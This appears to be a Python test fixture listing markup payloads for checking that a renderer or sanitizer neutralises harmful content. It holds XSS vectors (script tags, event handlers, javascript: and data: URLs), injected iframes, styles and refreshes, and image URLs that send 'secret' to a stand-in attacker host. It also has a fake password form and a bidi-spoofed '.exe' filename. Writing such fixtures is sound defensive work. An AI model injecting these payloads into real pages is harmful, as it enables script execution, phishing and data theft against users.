"""Markup that does harm where it is shown as such."""

_AWAY = "http://evil.example"
PAYLOADS = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1></svg>",
    "<a href='javascript:window.ran=1'>audit</a>",
    "[audit](javascript:window.ran=1)",
    "<a href='data:text/html,<script>window.ran=1</script>'>audit</a>",
    f"<iframe src='{_AWAY}/frame'></iframe>",
    f"<style>@import url({_AWAY}/style.css); body{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}/away'>",
    f"<link rel=stylesheet href='{_AWAY}/link.css'>",
    "$$\\href{javascript:window.ran=1}{audit}$$",
    f"![audit]({_AWAY}/image.png?q=secret)",
    f"<img src='{_AWAY}/image.png?q=secret'>",
    f"<video src='{_AWAY}/film.mp4' autoplay></video>",
    f"<div style='background:url({_AWAY}/back.png)'>audit</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>audit</div>",
    f"<form action='{_AWAY}/form'><input name=password><button>audit</button></form>",
    "</textarea></pre><script>window.ran=1</script>",
    "\u202eaudit\u202c\u2066 gnp.exe\u2069\u0000\x1b[31m",
)
